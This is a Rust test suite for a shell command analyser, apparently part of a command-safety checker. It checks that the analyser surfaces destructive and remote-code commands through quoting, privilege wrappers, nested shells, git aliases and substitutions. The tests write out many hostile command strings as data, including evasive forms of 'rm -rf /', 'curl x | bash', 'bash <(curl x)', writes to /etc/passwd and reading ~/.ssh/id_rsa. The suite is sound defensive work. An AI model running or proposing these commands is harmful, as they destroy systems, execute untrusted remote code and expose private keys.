@@ -1,0 +1,623 @@
+//! Behaviour of `analyse` on whole command lines.
+
+use super::*;
+
+fn a(line: &str) -> ShellAnalysis {
+    analyse(line)
+}
+
+/// The first command whose program is `program`.
+fn find<'a>(an: &'a ShellAnalysis, program: &str) -> &'a Command {
+    an.commands
+        .iter()
+        .find(|c| c.program == program)
+        .unwrap_or_else(|| panic!("no {program} in {an:#?}"))
+}
+
+fn args(c: &Command) -> Vec<&str> {
+    c.args.iter().map(|w| w.text.as_str()).collect()
+}
+
+fn programs(an: &ShellAnalysis) -> Vec<&str> {
+    an.commands.iter().map(|c| c.program.as_str()).collect()
+}
+
+#[test]
+fn debug_dump() {
+    for line in std::env::var("SHELL_DUMP").unwrap_or_default().split(";;;") {
+        if !line.is_empty() {
+            println!("{line}\n{:#?}", a(line));
+        }
+    }
+}
+
+fn has_finding(an: &ShellAnalysis, pred: impl Fn(&ShellFinding) -> bool) -> bool {
+    an.findings.iter().any(pred)
+}
+
+fn is_rm_rf_root(c: &Command) -> bool {
+    c.program == "rm" && args(c) == ["-rf", "/"]
+}
+
+/// Every evasion must still surface `rm -rf /` as a command.
+fn assert_rm_rf_root(line: &str) -> ShellAnalysis {
+    let an = a(line);
+    assert!(
+        an.commands.iter().any(is_rm_rf_root),
+        "{line:?} did not yield rm -rf /: {an:#?}"
+    );
+    an
+}
+
+#[test]
+fn quote_and_path_evasions_normalise() {
+    for line in [
+        "rm -rf /",
+        "r''m -rf /",
+        "\\rm -rf /",
+        "/bin/rm -rf /",
+        "\"rm\" -rf /",
+        "'r'\"m\" -rf /",
+        "$'\\x72m' -rf /",
+        "$'\\162\\155' -rf '/'",
+        "command rm -rf /",
+        "builtin rm -rf /",
+        "exec rm -rf /",
+    ] {
+        let an = assert_rm_rf_root(line);
+        assert!(an.findings.is_empty(), "{line}: {:?}", an.findings);
+    }
+    let c = find(&a("/bin/rm -rf /"), "rm").clone();
+    assert_eq!(c.program_path, "/bin/rm");
+}
+
+#[test]
+fn privilege_wrappers() {
+    for (line, wrapper) in [
+        ("sudo -u root rm -rf /", "sudo"),
+        ("sudo -E -- rm -rf /", "sudo"),
+        ("sudo FOO=1 rm -rf /", "sudo"),
+        ("doas -u root rm -rf /", "doas"),
+        ("pkexec --user root rm -rf /", "pkexec"),
+        ("su -c 'rm -rf /'", "su -c"),
+        ("su root -c 'rm -rf /'", "su -c"),
+        ("su - root --command='rm -rf /'", "su -c"),
+    ] {
+        let an = assert_rm_rf_root(line);
+        let c = an.commands.iter().find(|c| is_rm_rf_root(c)).unwrap();
+        assert!(c.privileged, "{line}");
+        assert_eq!(c.wrappers, [wrapper], "{line}");
+    }
+    // With nothing to run, the wrapper itself is the command.
+    let an = a("sudo -i");
+    assert_eq!(programs(&an), ["sudo"]);
+    assert!(an.commands[0].privileged);
+    assert!(find(&a("su"), "su").privileged);
+}
+
+#[test]
+fn launcher_wrappers() {
+    for (line, wrappers) in [
+        ("env -i FOO=1 rm -rf /", &["env"][..]),
+        ("env -u HOME -- rm -rf /", &["env"]),
+        ("/usr/bin/env rm -rf /", &["env"]),
+        ("env -S 'rm -rf' /", &["env"]),
+        ("timeout 5 nice -n 10 rm -rf /", &["timeout", "nice"]),
+        ("timeout -s KILL --kill-after=1 5s rm -rf /", &["timeout"]),
+        ("nohup rm -rf / &", &["nohup"]),
+        ("nice -10 rm -rf /", &["nice"]),
+        ("stdbuf -oL rm -rf /", &["stdbuf"]),
+        ("ionice -c 3 rm -rf /", &["ionice"]),
+        ("setsid -f rm -rf /", &["setsid"]),
+        ("chrt -b 0 rm -rf /", &["chrt"]),
+        ("taskset -c 0 rm -rf /", &["taskset"]),
+        // `time` is a keyword of the pipeline in bash; `/usr/bin/time` is a program.
+        ("time -p rm -rf /", &[]),
+        ("/usr/bin/time -o out rm -rf /", &["time"]),
+        ("watch -x rm -rf /", &["watch"]),
+        ("watch -n 1 rm -rf /", &["watch"]),
+        (
+            "sudo env FOO=1 timeout 5 rm -rf /",
+            &["sudo", "env", "timeout"],
+        ),
+    ] {
+        let an = assert_rm_rf_root(line);
+        let c = an.commands.iter().find(|c| is_rm_rf_root(c)).unwrap();
+        assert_eq!(c.wrappers, wrappers, "{line}");
+    }
+    let an = a("env -i FOO=1 BAR=$x rm -rf /");
+    let c = find(&an, "rm");
+    assert_eq!(c.env.len(), 2);
+    assert_eq!(c.env[0], ("FOO".to_string(), Word::literal("1")));
+    assert!(c.env[1].1.dynamic);
+    assert_eq!(
+        find(&a("env -C /tmp rm x"), "rm").cwd.as_deref(),
+        Some("/tmp")
+    );
+    // A wrapper with no inner command stays itself.
+    assert_eq!(programs(&a("env")), ["env"]);
+    assert_eq!(programs(&a("command -v rm")), ["command"]);
+    assert_eq!(programs(&a("exec >log")), ["exec"]);
+    assert_eq!(programs(&a("ionice -p 42")), ["ionice"]);
+}
+
+#[test]
+fn prefix_assignments_become_env() {
+    let an = a("FOO=bar BAZ=\"a b\" cmd x");
+    let c = find(&an, "cmd");
+    assert_eq!(
+        c.env,
+        [
+            ("FOO".to_string(), Word::literal("bar")),
+            ("BAZ".to_string(), Word::literal("a b"))
+        ]
+    );
+    // A bare assignment runs nothing.
+    let an = a("X=1");
+    assert!(an.commands.is_empty() && an.findings.is_empty());
+}
+
+#[test]
+fn shell_c_scripts_are_parsed() {
+    for (line, wrappers) in [
+        ("bash -c 'rm -rf /'", &["bash -c"][..]),
+        ("sh -c \"sudo rm -rf /\"", &["sh -c", "sudo"]),
+        ("bash -lc 'rm -rf /'", &["bash -c"]),
+        ("bash -e -x -c 'rm -rf /'", &["bash -c"]),
+        ("bash -o pipefail -c 'rm -rf /'", &["bash -c"]),
+        ("zsh -c 'rm -rf /'", &["zsh -c"]),
+        ("/bin/dash -c 'cd /tmp; rm -rf /'", &["dash -c"]),
+        ("eval \"rm -rf /\"", &["eval"]),
+        ("eval rm -rf /", &["eval"]),
+        ("bash <<EOF\nrm -rf /\nEOF", &["bash <<"]),
+        ("sh <<< 'rm -rf /'", &["sh <<"]),
+        ("sh -c 'rm -rf \"$1\"' sh /", &["sh -c"]),
+        ("trap 'rm -rf /' EXIT", &["trap"]),
+    ] {
+        let an = assert_rm_rf_root(line);
+        let c = an.commands.iter().find(|c| is_rm_rf_root(c)).unwrap();
+        assert_eq!(c.wrappers, wrappers, "{line}");
+        assert!(
+            !has_finding(&an, |f| matches!(f, ShellFinding::DynamicScript { .. })),
+            "{line}: {:?}",
+            an.findings
+        );
+    }
+    assert!(find(&a("sh -c \"sudo rm -rf /\""), "rm").privileged);
+    // `--` ends the options: `-c` is then a script file name.
+    let an = a("bash -- -c 'rm -rf /'");
+    assert_eq!(programs(&an), ["bash"]);
+}
+
+#[test]
+fn nested_shells_unwrap_and_stay_bounded() {
+    let an = assert_rm_rf_root(r#"bash -c "bash -c 'bash -c \"rm -rf /\"'""#);
+    let c = an.commands.iter().find(|c| is_rm_rf_root(c)).unwrap();
+    assert_eq!(c.wrappers, ["bash -c", "bash -c", "bash -c"]);
+    // Deeper than the bound: reported, not crashed.
+    let line = format!("{}rm -rf /", "eval ".repeat(MAX_NESTING + 5));
+    let an = a(&line);
+    assert!(
+        has_finding(&an, |f| matches!(f, ShellFinding::TooComplex { .. })),
+        "{:?}",
+        an.findings
+    );
+}
+
+#[test]
+fn dynamic_scripts_are_findings() {
+    for (line, wrapper) in [
+        ("bash -c \"$x\"", "bash -c"),
+        ("eval \"$cmd\"", "eval"),
+        ("eval $cmd", "eval"),
+        ("su -c \"$CMD\"", "su -c"),
+        ("python3 -c \"$code\"", "python3 -c"),
+    ] {
+        let an = a(line);
+        assert!(
+            has_finding(
+                &an,
+                |f| matches!(f, ShellFinding::DynamicScript { wrapper: w, .. } if w == wrapper)
+            ),
+            "{line}: {:?}",
+            an.findings
+        );
+    }
+    // Partially dynamic scripts are still analysed.
+    let an = a("bash -c \"rm -rf $DIR/x\"");
+    let rm = find(&an, "rm");
+    assert_eq!(args(rm), ["-rf", "$DIR/x"]);
+    assert!(rm.args[1].dynamic);
+    // xargs feeding `sh -c` supplies the script itself.
+    let an = a("cat cmds | xargs sh -c");
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::DynamicScript { .. }
+    )));
+}
+
+#[test]
+fn xargs_runs_its_command_with_stdin_args() {
+    let an = a("find . -name '*.o' | xargs rm -rf");
+    let rm = find(&an, "rm");
+    assert_eq!(args(rm), ["-rf"]);
+    assert!(rm.args_from_stdin);
+    assert_eq!(rm.wrappers, ["xargs"]);
+    assert_eq!(rm.stdin_from, Some(0));
+    let an = a("xargs -0 -n 1 -I {} rm -rf {} < list");
+    let rm = find(&an, "rm");
+    assert!(rm.args[1].dynamic);
+    assert_eq!(programs(&a("xargs")), ["xargs"]);
+}
+
+#[test]
+fn find_exec_runs_its_command_on_start_paths() {
+    let an = assert_rm_rf_root("find / -exec rm -rf {} \\;");
+    assert_eq!(programs(&an), ["find", "rm"]);
+    let rm = find(&an, "rm");
+    assert_eq!(rm.wrappers, ["find -exec"]);
+    assert_rm_rf_root("find -L / -name x -execdir rm -rf {} +");
+    let an = a("find a b -type f -exec shred {} ';' -delete");
+    let find_cmd = find(&an, "find");
+    assert!(find_cmd.has_flag(None, &["-delete"]) || args(find_cmd).contains(&"-delete"));
+    assert_eq!(args(find(&an, "shred")), ["a", "b"]);
+    assert_eq!(args(find(&a("find -exec ls {} ;"), "ls")), ["."]);
+    // `sh -c` inside `-exec`, with `{}` as `$1`.
+    assert_rm_rf_root("find / -maxdepth 0 -exec sh -c 'rm -rf \"$1\"' _ {} \\;");
+}
+
+#[test]
+fn git_global_options_and_aliases() {
+    let an = a("git -C /x -c alias.y='!rm -rf /' y");
+    let git = find(&an, "git");
+    assert_eq!(git.subcommand(), Some("y"));
+    assert_eq!(args(git), ["y"]);
+    assert_eq!(git.cwd.as_deref(), Some("/x"));
+    let rm = an.commands.iter().find(|c| is_rm_rf_root(c)).unwrap();
+    assert_eq!(rm.wrappers, ["git alias"]);
+    assert_eq!(rm.cwd.as_deref(), Some("/x"));
+    let an = a("git --no-pager -P --git-dir=.git --work-tree . -c core.pager='rm -rf /' log");
+    assert_eq!(find(&an, "git").subcommand(), Some("log"));
+    assert_rm_rf_root("git -c core.sshCommand='rm -rf /' fetch");
+    let an = a("git -c user.name=x commit -m \"fix: x\"");
+    assert_eq!(programs(&an), ["git"]);
+    assert_eq!(args(&an.commands[0]), ["commit", "-m", "fix: x"]);
+}
+
+#[test]
+fn heredocs_and_redirects() {
+    let an = a("cat > f <<'EOF'\nhello $USER\nEOF");
+    let cat = find(&an, "cat");
+    assert_eq!(cat.redirects.len(), 1);
+    assert_eq!(cat.redirects[0].kind, RedirectKind::Write);
+    assert_eq!(cat.redirects[0].target.text, "f");
+    assert_eq!(cat.stdin_text.as_deref(), Some("hello $USER\n"));
+    let an = a("echo hi >> log 2>&1");
+    let echo = find(&an, "echo");
+    assert_eq!(echo.redirects[0].kind, RedirectKind::Append);
+    assert_eq!(echo.redirects[0].target.text, "log");
+    assert_eq!(echo.redirects[1].kind, RedirectKind::Dup);
+    assert_eq!(echo.redirects[1].fd, Some(2));
+    let an = a("cmd < in >| clob &> both 3<> rw 2>&- >&out");
+    let kinds: Vec<_> = find(&an, "cmd").redirects.iter().map(|r| r.kind).collect();
+    use RedirectKind::*;
+    assert_eq!(kinds, [Read, Write, Write, ReadWrite, Dup, Write]);
+    let an = a("cat <<< \"hi $x\"");
+    assert_eq!(find(&an, "cat").stdin_text.as_deref(), Some("hi $x"));
+    // Substitutions in an unquoted here-document run.
+    let an = a("cat <<EOF\n$(rm -rf /)\nEOF");
+    assert!(find(&an, "rm").in_substitution);
+    // A lone redirection still writes.
+    let an = a("> /etc/passwd");
+    assert_eq!(an.commands.len(), 1);
+    assert_eq!(an.commands[0].program, "");
+    assert_eq!(an.commands[0].redirects[0].target.text, "/etc/passwd");
+    // Redirections of a compound command apply to its commands.
+    let an = a("{ echo a; echo b; } > out");
+    assert!(an.commands.iter().all(|c| c.redirects.len() == 1));
+}
+
+#[test]
+fn substitutions_are_commands() {
+    let an = a("echo $(cat ~/.ssh/id_rsa)");
+    let cat = find(&an, "cat");
+    assert!(cat.in_substitution);
+    assert_eq!(args(cat), ["~/.ssh/id_rsa"]);
+    let echo = find(&an, "echo");
+    assert!(echo.args[0].dynamic && !echo.in_substitution);
+    assert_eq!(echo.args[0].text, "$(cat ~/.ssh/id_rsa)");
+    for line in [
+        "echo `rm -rf /`",
+        "echo \"$(rm -rf /)\"",
+        "x=$(rm -rf /)",
+        "echo ${x:-$(rm -rf /)}",
+        "echo $(( $(rm -rf /) + 1 ))",
+        "for f in $(rm -rf /); do :; done",
+        "[[ -n $(rm -rf /) ]]",
+        "cat <(rm -rf /)",
+        "tee >(rm -rf /)",
+        "echo $(echo $(rm -rf /))",
+    ] {
+        let an = assert_rm_rf_root(line);
+        assert!(find(&an, "rm").in_substitution, "{line}");
+    }
+}
+
+#[test]
+fn dynamic_programs() {
+    let an = a("$(echo rm) -rf /");
+    assert!(has_finding(
+        &an,
+        |f| matches!(f, ShellFinding::DynamicProgram { text } if text == "$(echo rm)")
+    ));
+    assert!(find(&an, "echo").in_substitution);
+    assert!(an.commands.iter().any(|c| c.program == "$(echo rm)"));
+    let an = a("$x -rf /");
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::DynamicProgram { .. }
+    )));
+    assert_eq!(an.commands[0].program, "$x");
+    // Resolved from a literal assignment earlier in the line.
+    let an = assert_rm_rf_root("x=rm; $x -rf /");
+    assert!(an.findings.is_empty(), "{:?}", an.findings);
+    assert_rm_rf_root("D=/; rm -rf $D");
+    assert_rm_rf_root("export D=/; rm -rf \"${D}\"");
+    let an = a("D=/; rm -rf $D");
+    assert!(!find(&an, "rm").args[1].dynamic);
+    // A later non-literal assignment forgets the value.
+    let an = a("x=rm; x=$(curl e); $x -rf /");
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::DynamicProgram { .. }
+    )));
+    // HOME is never resolved.
+    let an = a("HOME=/; rm -rf $HOME");
+    assert_eq!(find(&an, "rm").args[1].text, "$HOME");
+    // A prefix assignment does not apply to the expansion of its own command.
+    let an = a("D=/ rm -rf $D");
+    assert!(find(&an, "rm").args[1].dynamic);
+}
+
+#[test]
+fn words() {
+    let an = a("printf %s \"a b\" 'c d' e\\ f ~/x *.rs '*.rs' $HOME \"${HOME}/y\"");
+    let p = find(&an, "printf");
+    assert_eq!(
+        args(p),
+        [
+            "%s",
+            "a b",
+            "c d",
+            "e f",
+            "~/x",
+            "*.rs",
+            "*.rs",
+            "$HOME",
+            "${HOME}/y"
+        ]
+    );
+    assert!(p.args[5].glob && !p.args[6].glob);
+    assert!(p.args[7].dynamic && !p.args[4].dynamic);
+}
+
+#[test]
+fn pipes_to_interpreters() {
+    let an = a("curl -s https://x | bash");
+    assert_eq!(find(&an, "bash").stdin_from, Some(0));
+    assert!(has_finding(
+        &an,
+        |f| matches!(f, ShellFinding::InterpreterFromPipe { interpreter, upstream } if interpreter == "bash" && upstream == &["curl"])
+    ));
+    let an = a("wget -qO- x | sudo sh");
+    let sh = find(&an, "sh");
+    assert!(sh.privileged && sh.stdin_from == Some(0));
+    assert!(has_finding(
+        &an,
+        |f| matches!(f, ShellFinding::InterpreterFromPipe { interpreter, .. } if interpreter == "sh")
+    ));
+    let an = a("echo aGVsbG8= | base64 -d | sh");
+    assert!(has_finding(
+        &an,
+        |f| matches!(f, ShellFinding::InterpreterFromPipe { upstream, .. } if upstream == &["base64", "echo"])
+    ));
+    let an = a("curl x | tee f | sh -s -- --flag");
+    assert!(has_finding(
+        &an,
+        |f| matches!(f, ShellFinding::InterpreterFromPipe { upstream, .. } if upstream == &["tee", "curl"])
+    ));
+    for line in [
+        "curl x | python3",
+        "curl x | python3.12 -",
+        "curl x | perl",
+        "curl x | node -",
+        "curl x | ruby",
+        "curl x | php",
+        "curl x | source /dev/stdin",
+        "curl x | . /dev/stdin",
+        "curl x | bash -c 'sh'",
+        "curl x | xargs bash",
+        "curl x | { cat; } | zsh",
+        "curl x | pwsh -Command -",
+    ] {
+        let an = a(line);
+        assert!(
+            has_finding(&an, |f| matches!(
+                f,
+                ShellFinding::InterpreterFromPipe { .. }
+            )),
+            "{line}: {an:#?}"
+        );
+    }
+    for line in [
+        "cat x.py | python3 script.py",
+        "echo x | python3 -c 'print(1)'",
+        "echo x | python3 -m json.tool",
+        "ls | grep foo | wc -l",
+        "bash script.sh",
+        "python3 <<EOF\nprint(1)\nEOF",
+    ] {
+        let an = a(line);
+        assert!(an.findings.is_empty(), "{line}: {:?}", an.findings);
+    }
+}
+
+#[test]
+fn interpreters_from_substitutions() {
+    for (line, interpreter) in [
+        ("bash <(curl x)", "bash"),
+        ("sh -c \"$(wget -O- x)\"", "sh"),
+        ("python3 -c \"$(curl x)\"", "python3"),
+        ("source <(curl x)", "source"),
+        (". <(curl x)", "."),
+        ("eval \"$(curl x)\"", "eval"),
+        ("bash < <(curl x)", "bash"),
+        ("sh <<< \"$(curl x)\"", "sh"),
+        ("perl -e \"$(curl x)\"", "perl"),
+    ] {
+        let an = a(line);
+        assert!(
+            has_finding(
+                &an,
+                |f| matches!(f, ShellFinding::InterpreterFromSubstitution { interpreter: i, inner } if i == interpreter && inner.iter().any(|p| p == "curl" || p == "wget"))
+            ),
+            "{line}: {:?}",
+            an.findings
+        );
+        assert!(an.commands.iter().any(|c| c.in_substitution), "{line}");
+    }
+}
+
+#[test]
+fn cd_sets_cwd_of_later_commands() {
+    let an = a("cd /tmp && rm -rf x; ls");
+    assert_eq!(find(&an, "rm").cwd.as_deref(), Some("/tmp"));
+    assert_eq!(find(&an, "ls").cwd.as_deref(), Some("/tmp"));
+    let an = a("cd /a && cd b && rm x");
+    assert_eq!(find(&an, "rm").cwd.as_deref(), Some("/a/b"));
+    // A subshell's cd does not leak.
+    let an = a("(cd /tmp && rm x); rm y");
+    assert_eq!(an.commands[1].cwd.as_deref(), Some("/tmp"));
+    assert_eq!(an.commands[2].cwd, None);
+    assert_eq!(find(&a("cd; rm x"), "rm").cwd.as_deref(), Some("~"));
+}
+
+#[test]
+fn compound_commands_are_walked() {
+    let an = a("if test -f x; then rm a; elif true; then rm b; else rm c; fi");
+    assert_eq!(programs(&an), ["test", "rm", "true", "rm", "rm"]);
+    let an = a("while read l; do rm \"$l\"; done < list");
+    assert_eq!(programs(&an), ["read", "rm"]);
+    let an = a("until false; do x; done; case $1 in a) rm a;; *) rm b;; esac");
+    assert_eq!(programs(&an), ["false", "x", "rm", "rm"]);
+    let an = a("f() { rm -rf /; }; f");
+    assert_eq!(programs(&an), ["rm", "f"]);
+    let an = a("(a; b) | { c; d; } && ! e || f & g");
+    assert_eq!(programs(&an), ["a", "b", "c", "d", "e", "f", "g"]);
+    // A compound pipeline stage hands on its last command.
+    assert_eq!(an.commands[2].stdin_from, Some(1));
+    assert_eq!(an.commands[3].stdin_from, Some(1));
+    let an = a("for ((i=0; i<3; i++)); do rm $i; done; (( x = $(rm -rf /) ))");
+    assert!(an.commands.iter().any(is_rm_rf_root));
+    let an = a("time rm -rf / | cat");
+    assert!(an.commands.iter().any(is_rm_rf_root));
+    let an = a("coproc rm -rf /");
+    assert!(an.commands.iter().any(is_rm_rf_root));
+}
+
+#[test]
+fn ordinary_commands_are_clean() {
+    for (line, progs) in [
+        (
+            "cargo build --release && cargo test",
+            &["cargo", "cargo"][..],
+        ),
+        ("git commit -m \"fix: x\"", &["git"]),
+        ("npm ci", &["npm"]),
+        ("ls -la | grep foo | wc -l", &["ls", "grep", "wc"]),
+        ("for f in *.rs; do rustfmt $f; done", &["rustfmt"]),
+        ("cd src && cargo fmt", &["cd", "cargo"]),
+        ("echo done # comment", &["echo"]),
+        ("RUST_LOG=debug cargo run -- --flag=1", &["cargo"]),
+    ] {
+        let an = a(line);
+        assert!(an.findings.is_empty(), "{line}: {:?}", an.findings);
+        assert_eq!(programs(&an), progs, "{line}");
+    }
+    let an = a("git commit -m \"fix: x\"");
+    assert_eq!(args(&an.commands[0]), ["commit", "-m", "fix: x"]);
+    let an = a("ls -la | grep foo | wc -l");
+    assert_eq!(an.commands[1].stdin_from, Some(0));
+    assert_eq!(an.commands[2].stdin_from, Some(1));
+    let an = a("for f in *.rs; do rustfmt $f; done");
+    assert!(an.commands[0].args[0].dynamic);
+}
+
+#[test]
+fn empty_and_errors() {
+    for line in ["", "   ", "\n", "# only a comment"] {
+        let an = a(line);
+        assert!(an.commands.is_empty() && an.findings.is_empty(), "{line:?}");
+    }
+    for line in [
+        "echo 'unterminated",
+        "echo \"x",
+        "echo )",
+        "if true; then",
+        "echo $(",
+        "bash -c 'echo \"'",
+    ] {
+        let an = a(line);
+        assert!(
+            has_finding(&an, |f| matches!(f, ShellFinding::ParseError { .. })),
+            "{line}: {an:?}"
+        );
+    }
+    // Would make brush-parser panic: refused before parsing.
+    let an = a("echo 99999999999>f");
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::ParseError { .. }
+    )));
+}
+
+#[test]
+fn bounds_hold_on_hostile_input() {
+    for n in [10 * 1024 / 2, 100_000] {
+        let line = format!("echo {}x{}", "$(".repeat(n), ")".repeat(n));
+        let an = a(&line);
+        assert!(an.commands.is_empty());
+        assert!(has_finding(&an, |f| matches!(
+            f,
+            ShellFinding::TooComplex { .. }
+        )));
+    }
+    // Nesting hidden in single quotes surfaces when the script is unwrapped.
+    let inner = format!("{}x{}", "$(".repeat(5000), ")".repeat(5000));
+    let an = a(&format!("bash -c '{inner}'"));
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::TooComplex { .. }
+    )));
+    let an = a(&"x".repeat(MAX_COMMAND_BYTES + 1));
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::TooComplex { .. }
+    )));
+    // Variable doubling does not grow without bound.
+    let mut line = "a=xxxxxxxxxxxxxxxx".to_string();
+    for _ in 0..40 {
+        line.push_str("; a=$a$a");
+    }
+    line.push_str("; echo $a");
+    let an = a(&line);
+    assert!(an.commands[0].args[0].text.len() <= 64 * 1024);
+    // find with many start paths and many {} stays bounded.
+    let line = format!(
+        "find {} -exec x {} \\;",
+        "a ".repeat(2000),
+        "{} ".repeat(2000)
+    );
+    let an = a(&line);
+    assert!(an.commands.iter().map(|c| c.args.len()).sum::<usize>() < 20_000);
+}
